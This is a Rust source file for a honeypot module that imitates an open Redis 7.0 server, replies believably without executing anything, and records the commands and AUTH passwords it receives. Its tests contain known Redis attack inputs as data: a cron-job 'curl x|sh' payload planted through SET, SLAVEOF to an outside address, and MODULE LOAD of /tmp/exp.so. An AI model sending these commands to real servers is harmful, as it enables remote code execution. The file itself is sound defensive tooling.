//! Redis (client speaks first): RESP arrays and inline commands, answered like an open Redis
//! 7.0 that stores nothing: `+OK` to AUTH (the password is captured), `+PONG`, a short INFO,
//! TIME and LASTSAVE (from the engine's clock), CONFIG GET/SET, SET/GET, KEYS, REPLICAOF, MODULE LOAD, EVAL ... with plausible short
//! replies; nothing is executed. Each command (one array, or one inline line) is a turn.

use super::{After, Context, Detection, Framing, Responder, TurnFields};
use crate::json::JsonWriter;
use std::time::{SystemTime, UNIX_EPOCH};

pub struct Redis {
    phase: Phase,
    /// Where framing of the current turn stands (resumed on each read, never re-scanned).
    scan: Scan,
}

enum Phase {
    Commands,
    /// After QUIT or a cross-protocol request: the server hangs up.
    Closed,
}

enum Scan {
    /// Nothing of the turn seen yet.
    Start,
    /// An inline command: the bytes before `scanned` hold no newline.
    Inline { scanned: usize },
    /// A RESP array's header line: the bytes before `scanned` hold no newline.
    Header { scanned: usize },
    /// A RESP array's bulk strings.
    Bulks(Bulks),
    /// Bytes that follow no framing we track: the turn ends at the client's pause.
    Unframed,
}

#[derive(Clone, Copy)]
struct Bulks {
    /// Bulk strings still to come.
    elements: u64,
    /// Where the next one's `$` header starts.
    at: usize,
    /// The bytes from `at` to `scanned` hold no newline.
    scanned: usize,
}

/// Redis's PROTO_INLINE_MAX_SIZE: an inline command (or a RESP header line) longer than this
/// is a protocol error.
const MAX_LINE: usize = 64 * 1024;
/// Redis's multibulk length limit.
const MAX_ELEMENTS: u64 = 1024 * 1024;
/// Bulk strings above this are left to the payload cap (framed at the pause).
const MAX_BULK: u64 = 1024 * 1024;
/// Arguments kept in the record (the payload hex keeps everything).
const MAX_ARGS: usize = 16;
/// Bytes of each argument kept in the record.
const MAX_ARG_BYTES: usize = 1024;
/// What Redis echoes of an unknown command's name and arguments.
const ECHO: usize = 128;

/// Commands whose inline form (first word, any case) says "Redis" on its own.
const INLINE_COMMANDS: [&[u8]; 11] = [
    b"PING",
    b"AUTH",
    b"INFO",
    b"CONFIG",
    b"SLAVEOF",
    b"REPLICAOF",
    b"MODULE",
    b"EVAL",
    b"FLUSHALL",
    b"KEYS",
    b"DBSIZE",
];

/// One command.
// A short-lived view on the stack, never stored: its size does not matter.
#[allow(clippy::large_enum_variant)]
pub enum RedisTurn<'a> {
    Command(Command<'a>),
    /// Not a command Redis accepts; the reason Redis gives.
    ProtocolError(&'static str),
    /// An empty array or a blank line: Redis ignores it.
    Empty,
    /// An array cut short (by a pause, the payload cap or the connection's end).
    Truncated,
}

pub struct Command<'a> {
    /// Name first, then arguments (at most MAX_ARGS + 1 kept).
    words: [&'a [u8]; MAX_ARGS + 1],
    kept: usize,
    /// How many arguments the command had (name excluded).
    arguments: u64,
}

impl<'a> Command<'a> {
    fn name(&self) -> &'a [u8] {
        self.words[0]
    }
    fn args(&self) -> &[&'a [u8]] {
        &self.words[1..self.kept]
    }
    fn is(&self, name: &str) -> bool {
        self.name().eq_ignore_ascii_case(name.as_bytes())
    }
    fn arg_is(&self, i: usize, name: &str) -> bool {
        self.args()
            .get(i)
            .is_some_and(|a| a.eq_ignore_ascii_case(name.as_bytes()))
    }
    fn push(&mut self, word: &'a [u8]) {
        if self.kept == 0 {
            self.words[0] = word;
            self.kept = 1;
            return;
        }
        self.arguments += 1;
        if self.kept < self.words.len() {
            self.words[self.kept] = word;
            self.kept += 1;
        }
    }
}

/// A decimal in a RESP header line (`*3`, `$5`, without the sigil); `None` if it is not one.
fn decimal(digits: &[u8]) -> Option<i64> {
    let (negative, digits) = match digits {
        [b'-', rest @ ..] => (true, rest),
        _ => (false, digits),
    };
    if digits.is_empty() || digits.len() > 18 || !digits.iter().all(u8::is_ascii_digit) {
        return None;
    }
    let v = digits
        .iter()
        .fold(0i64, |v, &d| v * 10 + i64::from(d - b'0'));
    Some(if negative { -v } else { v })
}

/// The line starting at `at` (without `\r\n`) and where the next one starts.
fn line(bytes: &[u8], at: usize) -> Option<(&[u8], usize)> {
    let rest = bytes.get(at..)?;
    let nl = memchr::memchr(b'\n', rest)?;
    let text = &rest[..nl];
    Some((text.strip_suffix(b"\r").unwrap_or(text), at + nl + 1))
}

/// Parses a whole array turn.
fn parse_array(turn: &[u8]) -> RedisTurn<'_> {
    let Some((header, mut at)) = line(turn, 0) else {
        return RedisTurn::Truncated;
    };
    let count = match decimal(&header[1..]) {
        Some(n) if n <= 0 => return RedisTurn::Empty,
        Some(n) if n as u64 <= MAX_ELEMENTS => n as u64,
        _ => return RedisTurn::ProtocolError("Protocol error: invalid multibulk length"),
    };
    let mut command = Command {
        words: [&[]; MAX_ARGS + 1],
        kept: 0,
        arguments: 0,
    };
    for _ in 0..count {
        match turn.get(at) {
            None => return RedisTurn::Truncated,
            Some(b'$') => {}
            Some(_) => return RedisTurn::ProtocolError("Protocol error: expected '$'"),
        }
        let Some((bulk, body)) = line(turn, at) else {
            return RedisTurn::Truncated;
        };
        let len = match bulk {
            [b'$', digits @ ..] => match decimal(digits) {
                Some(n) if (0..=MAX_BULK as i64).contains(&n) => n as usize,
                _ => return RedisTurn::ProtocolError("Protocol error: invalid bulk length"),
            },
            _ => return RedisTurn::ProtocolError("Protocol error: expected '$'"),
        };
        let Some(word) = turn.get(body..body + len) else {
            return RedisTurn::Truncated;
        };
        command.push(&word[..len.min(MAX_ARG_BYTES)]);
        at = body + len + 2;
    }
    RedisTurn::Command(command)
}

/// Parses an inline command line (words split at spaces and tabs).
fn parse_inline(turn: &[u8]) -> RedisTurn<'_> {
    let text = turn.strip_suffix(b"\n").unwrap_or(turn);
    let text = text.strip_suffix(b"\r").unwrap_or(text);
    let mut command = Command {
        words: [&[]; MAX_ARGS + 1],
        kept: 0,
        arguments: 0,
    };
    for word in text
        .split(|&b| b == b' ' || b == b'\t')
        .filter(|w| !w.is_empty())
    {
        command.push(&word[..word.len().min(MAX_ARG_BYTES)]);
    }
    if command.kept == 0 {
        RedisTurn::Empty
    } else {
        RedisTurn::Command(command)
    }
}

impl Redis {
    /// Frames an inline command: the newline is searched for in new bytes only.
    fn frame_inline(&mut self, pending: &[u8], scanned: usize) -> Framing {
        match memchr::memchr(b'\n', &pending[scanned..]) {
            Some(i) => {
                self.scan = Scan::Start;
                Framing::Complete(scanned + i + 1)
            }
            None => self.wait(Scan::Inline { scanned: pending.len() }, pending.len()),
        }
    }

    /// Frames a RESP array's header line (`*<n>\r\n`).
    fn frame_header(&mut self, pending: &[u8], scanned: usize) -> Framing {
        let Some(i) = memchr::memchr(b'\n', &pending[scanned..]) else {
            return self.wait(Scan::Header { scanned: pending.len() }, pending.len());
        };
        let next = scanned + i + 1;
        let text = &pending[1..next - 1];
        match decimal(text.strip_suffix(b"\r").unwrap_or(text)) {
            Some(n) if n > 0 && n as u64 <= MAX_ELEMENTS => self.frame_bulks(
                pending,
                Bulks {
                    elements: n as u64,
                    at: next,
                    scanned: next,
                },
            ),
            // Empty arrays and invalid lengths end at the header line.
            _ => {
                self.scan = Scan::Start;
                Framing::Complete(next)
            }
        }
    }

    /// Frames the bulk strings of an array: each header line is searched once, each body
    /// skipped by its length.
    fn frame_bulks(&mut self, pending: &[u8], mut b: Bulks) -> Framing {
        loop {
            if b.elements == 0 {
                self.scan = Scan::Start;
                return Framing::Complete(b.at);
            }
            let Some(&sigil) = pending.get(b.at) else {
                self.scan = Scan::Bulks(b);
                return Framing::NeedMore;
            };
            if sigil != b'$' {
                // Redis fails here: the turn ends at the offending byte.
                self.scan = Scan::Start;
                return Framing::Complete(b.at + 1);
            }
            let Some(i) = memchr::memchr(b'\n', &pending[b.scanned..]) else {
                b.scanned = pending.len();
                return self.wait(Scan::Bulks(b), pending.len() - b.at);
            };
            let body = b.scanned + i + 1;
            let text = &pending[b.at + 1..body - 1];
            let len = match decimal(text.strip_suffix(b"\r").unwrap_or(text)) {
                Some(n) if (0..=MAX_BULK as i64).contains(&n) => n as usize,
                Some(n) if n > MAX_BULK as i64 => {
                    self.scan = Scan::Unframed;
                    return Framing::AtPause;
                }
                _ => {
                    self.scan = Scan::Start;
                    return Framing::Complete(body);
                }
            };
            let end = body + len + 2;
            if pending.len() < end {
                // Next time the newline is found at once.
                b.scanned = body - 1;
                self.scan = Scan::Bulks(b);
                return Framing::NeedMore;
            }
            b.elements -= 1;
            b.at = end;
            b.scanned = end;
        }
    }

    /// Waits for more of a line, unless it is already longer than Redis allows.
    fn wait(&mut self, scan: Scan, line_len: usize) -> Framing {
        if line_len > MAX_LINE {
            self.scan = Scan::Unframed;
            Framing::AtPause
        } else {
            self.scan = scan;
            Framing::NeedMore
        }
    }
}

impl Responder for Redis {
    const NAME: &'static str = "redis";
    const DEFAULT_PORTS: &'static [u16] = &[6379];
    type Turn<'a> = RedisTurn<'a>;

    fn new(_ctx: &Context<'_>) -> Self {
        Redis {
            phase: Phase::Commands,
            scan: Scan::Start,
        }
    }

    fn detect(first: &[u8]) -> Detection {
        if let [b'*', rest @ ..] = first {
            let digits = rest.iter().take_while(|b| b.is_ascii_digit()).count();
            return match (digits, &rest[digits..]) {
                (1..=7, []) | (1..=7, [b'\r']) | (1..=7, [b'\r', b'\n']) => Detection::NeedMore,
                (1..=7, [b'\r', b'\n', b'$', ..]) => Detection::Match,
                (0, []) => Detection::NeedMore,
                _ => Detection::NoMatch,
            };
        }
        let word_len = first
            .iter()
            .position(|&b| matches!(b, b' ' | b'\r' | b'\n'))
            .unwrap_or(first.len());
        let word = &first[..word_len];
        for command in INLINE_COMMANDS {
            if word_len == first.len() {
                if word.len() <= command.len() && command[..word.len()].eq_ignore_ascii_case(word)
                {
                    return Detection::NeedMore;
                }
            } else if command.eq_ignore_ascii_case(word) {
                return Detection::Match;
            }
        }
        Detection::NoMatch
    }

    fn frame(&mut self, pending: &[u8], new_from: usize) -> Framing {
        if new_from == 0 {
            self.scan = Scan::Start;
        }
        if matches!(self.phase, Phase::Closed) {
            return Framing::AtPause;
        }
        match self.scan {
            Scan::Unframed => Framing::AtPause,
            Scan::Start if pending.first() == Some(&b'*') => self.frame_header(pending, 0),
            Scan::Start => self.frame_inline(pending, 0),
            Scan::Inline { scanned } => self.frame_inline(pending, scanned),
            Scan::Header { scanned } => self.frame_header(pending, scanned),
            Scan::Bulks(b) => self.frame_bulks(pending, b),
        }
    }

    fn parse<'a>(&self, turn: &'a [u8]) -> RedisTurn<'a> {
        match turn.first() {
            Some(b'*') => parse_array(turn),
            Some(_) if turn.len() > MAX_LINE && memchr::memchr(b'\n', turn).is_none() => {
                RedisTurn::ProtocolError("Protocol error: too big inline request")
            }
            _ => parse_inline(turn),
        }
    }

    fn reply(&mut self, turn: &RedisTurn<'_>, ctx: &Context<'_>, out: &mut Vec<u8>) -> After {
        if matches!(self.phase, Phase::Closed) {
            return After::Close;
        }
        let command = match turn {
            RedisTurn::Empty => return After::KeepOpen,
            // The client stopped mid-command: hang up rather than wait for the rest.
            RedisTurn::Truncated => {
                self.phase = Phase::Closed;
                return After::Close;
            }
            RedisTurn::ProtocolError(reason) => {
                out.extend_from_slice(b"-ERR ");
                out.extend_from_slice(reason.as_bytes());
                out.extend_from_slice(b"\r\n");
                self.phase = Phase::Closed;
                return After::Close;
            }
            RedisTurn::Command(command) => command,
        };
        let after = answer(command, ctx.now, out);
        if after == After::Close {
            self.phase = Phase::Closed;
        }
        after
    }
}

/// INFO up to the server's clock, which [`info`] writes next.
const INFO_HEAD: &[u8] = b"# Server\r\n\
redis_version:7.0.15\r\n\
redis_git_sha1:00000000\r\n\
redis_git_dirty:0\r\n\
redis_build_id:5d7e1c8aa2b0a8f0\r\n\
redis_mode:standalone\r\n\
os:Linux 6.1.0-28-amd64 x86_64\r\n\
arch_bits:64\r\n\
gcc_version:12.2.0\r\n\
process_id:811\r\n\
tcp_port:6379\r\n";

/// How long our server has been up (26 days): its start, and so its last save, is the clock
/// minus this.
const UPTIME_SECONDS: u64 = 2_315_914;

/// INFO after the uptime, up to the last save time.
const INFO_MIDDLE: &[u8] = b"executable:/usr/bin/redis-server\r\n\
config_file:/etc/redis/redis.conf\r\n\
\r\n\
# Clients\r\n\
connected_clients:1\r\n\
blocked_clients:0\r\n\
\r\n\
# Memory\r\n\
used_memory:1006904\r\n\
used_memory_human:983.30K\r\n\
maxmemory:0\r\n\
maxmemory_policy:noeviction\r\n\
\r\n\
# Persistence\r\n\
loading:0\r\n\
rdb_changes_since_last_save:0\r\n";

/// INFO after the last save time.
const INFO_TAIL: &[u8] = b"\r\n\
# Replication\r\n\
role:master\r\n\
connected_slaves:0\r\n\
\r\n\
# Keyspace\r\n";

/// CONFIG GET answers for the parameters scanners ask for.
const CONFIG: [(&str, &str); 9] = [
    ("dir", "/var/lib/redis"),
    ("dbfilename", "dump.rdb"),
    ("requirepass", ""),
    ("masterauth", ""),
    ("protected-mode", "no"),
    ("bind", "* -::*"),
    ("port", "6379"),
    ("appendonly", "no"),
    ("save", "3600 1 300 100 60 10000"),
];

/// INFO as Redis 7.0 writes it at `now` (abridged): the clock in `server_time_usec`, and no
/// save since the start (`rdb_last_save_time` is the start time, as after a restart).
fn info(out: &mut Vec<u8>, now: SystemTime) {
    use std::io::Write;
    let since_1970 = now.duration_since(UNIX_EPOCH).unwrap_or_default();
    let mut text = Vec::with_capacity(1024);
    text.extend_from_slice(INFO_HEAD);
    // ok to ignore: writing to a Vec cannot fail.
    let _ = write!(
        text,
        "server_time_usec:{}\r\nuptime_in_seconds:{UPTIME_SECONDS}\r\nuptime_in_days:{}\r\n",
        since_1970.as_micros(),
        UPTIME_SECONDS / 86_400
    );
    text.extend_from_slice(INFO_MIDDLE);
    let _ = write!(text, "rdb_last_save_time:{}\r\n", last_save(now));
    text.extend_from_slice(INFO_TAIL);
    bulk(out, &text);
}

/// The server's start in seconds since 1970 (LASTSAVE: nothing saved since).
fn last_save(now: SystemTime) -> u64 {
    let since_1970 = now.duration_since(UNIX_EPOCH).unwrap_or_default();
    since_1970.as_secs().saturating_sub(UPTIME_SECONDS)
}

/// TIME: seconds and microseconds, two bulk strings.
fn time(out: &mut Vec<u8>, now: SystemTime) {
    let since_1970 = now.duration_since(UNIX_EPOCH).unwrap_or_default();
    out.extend_from_slice(b"*2\r\n");
    bulk(out, since_1970.as_secs().to_string().as_bytes());
    bulk(out, since_1970.subsec_micros().to_string().as_bytes());
}

fn bulk(out: &mut Vec<u8>, value: &[u8]) {
    use std::io::Write;
    // ok to ignore: writing to a Vec cannot fail.
    let _ = write!(out, "${}\r\n", value.len());
    out.extend_from_slice(value);
    out.extend_from_slice(b"\r\n");
}

/// `value` as Redis puts it in an error: at most `max` bytes, newlines as spaces.
fn echo(out: &mut Vec<u8>, value: &[u8], max: usize) {
    out.extend(
        value[..value.len().min(max)]
            .iter()
            .map(|&b| if b == b'\r' || b == b'\n' { b' ' } else { b }),
    );
}

fn wrong_arity(out: &mut Vec<u8>, name: &str) {
    out.extend_from_slice(b"-ERR wrong number of arguments for '");
    out.extend_from_slice(name.as_bytes());
    out.extend_from_slice(b"' command\r\n");
}

/// What Redis 7.0 answers at `now` (without doing it).
fn answer(command: &Command<'_>, now: SystemTime, out: &mut Vec<u8>) -> After {
    let args = command.arguments;
    let reply: &[u8] = match () {
        // Redis closes on what looks like an HTTP request sent to it (cross-protocol attack).
        _ if command.is("post") || command.is("host:") => return After::Close,
        _ if command.is("quit") => {
            out.extend_from_slice(b"+OK\r\n");
            return After::Close;
        }
        _ if command.is("auth") && (args == 1 || args == 2) => b"+OK\r\n",
        _ if command.is("ping") && args == 0 => b"+PONG\r\n",
        _ if (command.is("ping") || command.is("echo")) && args == 1 => {
            bulk(out, command.args()[0]);
            return After::KeepOpen;
        }
        _ if command.is("info") => {
            info(out, now);
            return After::KeepOpen;
        }
        _ if command.is("time") && args == 0 => {
            time(out, now);
            return After::KeepOpen;
        }
        _ if command.is("lastsave") && args == 0 => {
            use std::io::Write;
            // ok to ignore: writing to a Vec cannot fail.
            let _ = write!(out, ":{}\r\n", last_save(now));
            return After::KeepOpen;
        }
        _ if command.is("config") && command.arg_is(0, "get") && args >= 2 => {
            config_get(command, out);
            return After::KeepOpen;
        }
        _ if command.is("config")
            && (command.arg_is(0, "set") && args >= 3 && args % 2 == 1
                || command.arg_is(0, "resetstat")
                || command.arg_is(0, "rewrite")) =>
        {
            b"+OK\r\n"
        }
        _ if command.is("set") && args >= 2 => b"+OK\r\n",
        _ if command.is("get") && args == 1 => b"$-1\r\n",
        _ if command.is("keys") && args == 1 => b"*0\r\n",
        _ if command.is("scan") && args >= 1 => b"*2\r\n$1\r\n0\r\n*0\r\n",
        _ if (command.is("del") || command.is("exists") || command.is("unlink")) && args >= 1 => {
            b":0\r\n"
        }
        _ if command.is("dbsize") && args == 0 => b":0\r\n",
        _ if (command.is("flushall") || command.is("flushdb")) && args <= 1 => b"+OK\r\n",
        _ if command.is("select") && args == 1 => b"+OK\r\n",
        _ if command.is("save") && args == 0 => b"+OK\r\n",
        _ if command.is("bgsave") && args <= 1 => b"+Background saving started\r\n",
        _ if (command.is("slaveof") || command.is("replicaof")) && args == 2 => b"+OK\r\n",
        _ if command.is("module") && command.arg_is(0, "load") && args >= 2 => {
            b"-ERR Error loading the extension. Please check the server logs.\r\n"
        }
        _ if command.is("module") && command.arg_is(0, "list") && args == 1 => b"*0\r\n",
        _ if (command.is("eval") || command.is("eval_ro")) && args >= 2 => b"$-1\r\n",
        _ if command.is("evalsha") && args >= 2 => {
            b"-NOSCRIPT No matching script. Please use EVAL.\r\n"
        }
        _ if command.is("client") && args >= 1 => b"+OK\r\n",
        _ if command.is("command") => b"*0\r\n",
        _ if command.is("type") && args == 1 => b"+none\r\n",
        _ => {
            match KNOWN.iter().find(|k| command.is(k)) {
                Some(name) => wrong_arity(out, name),
                None => unknown(command, out),
            }
            return After::KeepOpen;
        }
    };
    out.extend_from_slice(reply);
    After::KeepOpen
}

/// Commands answered above: with other argument counts they get the arity error.
const KNOWN: [&str; 29] = [
    "auth", "ping", "echo", "config", "set", "get", "keys", "scan", "del", "exists", "unlink",
    "dbsize", "flushall", "flushdb", "select", "save", "bgsave", "slaveof", "replicaof", "module",
    "eval", "eval_ro", "evalsha", "client", "type", "info", "quit", "time", "lastsave",
];

fn config_get(command: &Command<'_>, out: &mut Vec<u8>) {
    let wanted = |name: &str| {
        command.args()[1..]
            .iter()
            .any(|a| a.eq_ignore_ascii_case(name.as_bytes()))
    };
    let found = CONFIG.iter().filter(|(name, _)| wanted(name));
    let count = found.clone().count();
    use std::io::Write;
    // ok to ignore: writing to a Vec cannot fail.
    let _ = write!(out, "*{}\r\n", count * 2);
    for (name, value) in found {
        bulk(out, name.as_bytes());
        bulk(out, value.as_bytes());
    }
}

/// Redis 7.0's answer to an unknown command: the name (128 bytes at most) and the arguments
/// while the list is under 128 bytes.
fn unknown(command: &Command<'_>, out: &mut Vec<u8>) {
    out.extend_from_slice(b"-ERR unknown command '");
    echo(out, command.name(), ECHO);
    out.extend_from_slice(b"', with args beginning with: ");
    let start = out.len();
    for arg in command.args() {
        let used = out.len() - start;
        if used >= ECHO {
            break;
        }
        out.push(b'\'');
        echo(out, arg, ECHO - used);
        out.extend_from_slice(b"' ");
    }
    out.extend_from_slice(b"\r\n");
}

impl TurnFields for RedisTurn<'_> {
    fn protocol(&self) -> Option<&'static str> {
        Some("redis")
    }

    fn write_ecs(&self, w: &mut JsonWriter<'_>) {
        if let RedisTurn::Command(c) = self
            && c.is("auth")
            && c.arguments == 2
        {
            w.begin_object("user");
            w.str("name", c.args()[0]);
            w.end_object();
        }
    }

    fn write_spip(&self, w: &mut JsonWriter<'_>) {
        w.begin_object("redis");
        match self {
            RedisTurn::Command(c) => {
                w.str("command", c.name());
                w.str_array("arguments", c.args().iter().copied());
                w.u64("argument_count", c.arguments);
                if c.is("auth") && (c.arguments == 1 || c.arguments == 2) {
                    w.str("password", c.args()[c.args().len() - 1]);
                }
            }
            RedisTurn::ProtocolError(reason) => w.str("error", reason.as_bytes()),
            RedisTurn::Empty => {}
            RedisTurn::Truncated => w.bool("truncated", true),
        }
        w.end_object();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocols::testing::{assert_splits_agree, converse};

    /// `redis-cli -a pw CONFIG SET dir /var/lib/SECRET` (redis-cli 7.0.15), two reads.
    const AUTH: &[u8] = b"*2\r\n$4\r\nAUTH\r\n$2\r\npw\r\n";
    const CONFIG_SET: &[u8] = b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/lib/SECRET\r\n";

    #[test]
    fn detects_resp_arrays_and_inline_commands() {
        assert_eq!(Redis::detect(AUTH), Detection::Match);
        assert_eq!(Redis::detect(b"*1\r\n$4\r\ninfo\r\n"), Detection::Match);
        assert_eq!(Redis::detect(b"*2"), Detection::NeedMore);
        assert_eq!(Redis::detect(b"PING\r\n"), Detection::Match);
        assert_eq!(Redis::detect(b"config get dir\r\n"), Detection::Match);
        assert_eq!(Redis::detect(b"CONF"), Detection::NeedMore);
        assert_eq!(Redis::detect(b"GET / HTTP/1.1\r\n"), Detection::NoMatch);
        assert_eq!(Redis::detect(b"*ab"), Detection::NoMatch);
        assert_eq!(Redis::detect(b"\x16\x03\x01"), Detection::NoMatch);
    }

    #[test]
    fn redis_cli_auth_then_config_set_is_captured() {
        let t = converse::<Redis>(false, &[AUTH, CONFIG_SET]);
        assert_eq!(t.turns.len(), 2);
        assert_eq!(t.turns[0].reply, b"+OK\r\n");
        let auth = &t.turns[0].spip["redis"];
        assert_eq!(auth["command"], "AUTH");
        assert_eq!(auth["password"], "pw");
        assert!(t.turns[0].ecs.get("user").is_none());
        let config = &t.turns[1];
        assert_eq!(config.reply, b"+OK\r\n");
        assert_eq!(config.protocol, Some("redis"));
        let r = &config.spip["redis"];
        assert_eq!(r["command"], "CONFIG");
        assert_eq!(
            r["arguments"],
            serde_json::json!(["SET", "dir", "/var/lib/SECRET"])
        );
        assert_eq!(r["argument_count"], 3);
        assert!(!config.close);
    }

    #[test]
    fn redis_cli_stream_splits_agree() {
        let mut stream = AUTH.to_vec();
        stream.extend_from_slice(CONFIG_SET);
        stream.extend_from_slice(b"PING\r\ninfo server\r\n*0\r\n");
        assert_splits_agree::<Redis>(false, &stream);
    }

    #[test]
    fn attack_commands_get_plausible_replies() {
        let cases: [(&[u8], &[u8]); 14] = [
            (b"*1\r\n$4\r\nPING\r\n", b"+PONG\r\n"),
            (b"AUTH admin secret\r\n", b"+OK\r\n"),
            (b"*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$26\r\n\n\n*/1 * * * * curl x|sh\n\n\r\n", b"+OK\r\n"),
            (b"*2\r\n$3\r\nGET\r\n$1\r\nx\r\n", b"$-1\r\n"),
            (b"KEYS *\r\n", b"*0\r\n"),
            (b"CONFIG GET dir\r\n", b"*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n"),
            (b"config get nothing\r\n", b"*0\r\n"),
            (b"SLAVEOF 203.0.113.9 8886\r\n", b"+OK\r\n"),
            (b"REPLICAOF no one\r\n", b"+OK\r\n"),
            (b"MODULE LOAD /tmp/exp.so\r\n", b"-ERR Error loading the extension. Please check the server logs.\r\n"),
            (b"EVAL \"return 1\" 0\r\n", b"$-1\r\n"),
            (b"GET / HTTP/1.0\r\n", b"-ERR wrong number of arguments for 'get' command\r\n"),
            (b"FOO bar baz\r\n", b"-ERR unknown command 'FOO', with args beginning with: 'bar' 'baz' \r\n"),
            (b"QUIT\r\n", b"+OK\r\n"),
        ];
        for (input, want) in cases {
            let t = converse::<Redis>(false, &[input]);
            assert_eq!(t.turns.len(), 1, "{}", String::from_utf8_lossy(input));
            assert_eq!(
                String::from_utf8_lossy(&t.turns[0].reply),
                String::from_utf8_lossy(want)
            );
        }
        let t = converse::<Redis>(false, &[b"AUTH admin secret\r\n"]);
        assert_eq!(t.turns[0].ecs["user"]["name"], "admin");
        assert_eq!(t.turns[0].spip["redis"]["password"], "secret");
        let info = converse::<Redis>(false, &[b"*1\r\n$4\r\ninfo\r\n"]);
        let text = String::from_utf8_lossy(&info.turns[0].reply).into_owned();
        // nmap-service-probes: m|^\$\d+\r\n(?:#[^\r\n]*\r\n)*redis_version:([.\d]+)\r\n|s
        assert!(text.starts_with("$") && text.contains("\r\n# Server\r\nredis_version:7.0.15\r\n"));
        assert!(converse::<Redis>(false, &[b"QUIT\r\n"]).turns[0].close);
        let http = converse::<Redis>(false, &[b"POST / HTTP/1.1\r\nHost: x\r\n\r\n"]);
        assert!(http.turns[0].close && http.turns[0].reply.is_empty());
    }

    #[test]
    fn server_times_are_the_clock() {
        // The test clock is 1_700_000_000.1234567 s; the server started 2_315_914 s before.
        let reply = |input: &[u8]| converse::<Redis>(false, &[input]).turns[0].reply.clone();
        assert_eq!(reply(b"TIME\r\n"), b"*2\r\n$10\r\n1700000000\r\n$6\r\n123456\r\n");
        assert_eq!(reply(b"LASTSAVE\r\n"), b":1697684086\r\n");
        let info = reply(b"INFO\r\n");
        let text = String::from_utf8_lossy(&info);
        let (len, body) = text[1..].split_once("\r\n").unwrap();
        assert_eq!(len.parse::<usize>().unwrap() + 2, body.len(), "bulk length");
        assert!(text.contains(
            "\r\nserver_time_usec:1700000000123456\r\nuptime_in_seconds:2315914\r\nuptime_in_days:26\r\n"
        ));
        assert!(text.contains("\r\nrdb_last_save_time:1697684086\r\n"));
        assert_eq!(reply(b"TIME now\r\n"), b"-ERR wrong number of arguments for 'time' command\r\n");
    }

    #[test]
    fn arguments_recorded_and_echoed_are_bounded() {
        let mut many = b"*100\r\n".to_vec();
        for _ in 0..100 {
            many.extend_from_slice(b"$2000\r\n");
            many.extend_from_slice(&[b'a'; 2000]);
            many.extend_from_slice(b"\r\n");
        }
        let t = converse::<Redis>(false, &[&many]);
        assert_eq!(t.turns.len(), 1);
        let r = &t.turns[0].spip["redis"];
        assert_eq!(r["argument_count"], 99);
        assert_eq!(r["arguments"].as_array().unwrap().len(), MAX_ARGS);
        assert_eq!(r["command"].as_str().unwrap().len(), MAX_ARG_BYTES);
        assert!(t.turns[0].reply.len() < 400, "{}", t.turns[0].reply.len());
    }

    #[test]
    fn protocol_errors_answer_and_close() {
        let t = converse::<Redis>(false, &[b"*1\r\nxyz"]);
        assert_eq!(t.turns[0].reply, b"-ERR Protocol error: expected '$'\r\n");
        assert!(t.turns[0].close);
        let t = converse::<Redis>(false, &[b"*1\r\n$x\r\n"]);
        assert_eq!(t.turns[0].reply, b"-ERR Protocol error: invalid bulk length\r\n");
        let t = converse::<Redis>(false, &[b"*99999999\r\n"]);
        assert_eq!(t.turns[0].reply, b"-ERR Protocol error: invalid multibulk length\r\n");
    }

    #[test]
    fn every_prefix_and_garbage_is_safe_and_bounded() {
        let mut stream = AUTH.to_vec();
        stream.extend_from_slice(CONFIG_SET);
        for n in 0..=stream.len() {
            let t = converse::<Redis>(false, &[&stream[..n]]);
            assert!(t.sent().len() < 100);
        }
        let hostile: Vec<u8> = (0..65536u32).map(|i| (i * 7 + i / 251) as u8).collect();
        let t = converse::<Redis>(false, &[&hostile]);
        // One bounded answer per line, like Redis; never more than was sent.
        assert!(t.sent().len() < hostile.len());
        assert!(t.turns.iter().all(|turn| turn.reply.len() < 400));
        for input in [vec![b'A'; 70_000], [b"*1\r\n$", &[b'9'; 70_000][..]].concat()] {
            let t = converse::<Redis>(false, &[&input]);
            assert!(t.sent().len() < 400, "{}", t.sent().len());
        }
    }

    #[test]
    fn a_long_line_sent_a_byte_at_a_time_is_scanned_once() {
        // Linear framing: 60,000 one-byte reads of a header line finish quickly.
        let mut line = b"*".to_vec();
        line.extend_from_slice(&[b'1'; 60_000]);
        let chunks: Vec<&[u8]> = line.chunks(1).collect();
        let started = std::time::Instant::now();
        let t = converse::<Redis>(false, &chunks);
        assert_eq!(t.turns.len(), 1);
        assert!(started.elapsed() < std::time::Duration::from_secs(2));
    }
}
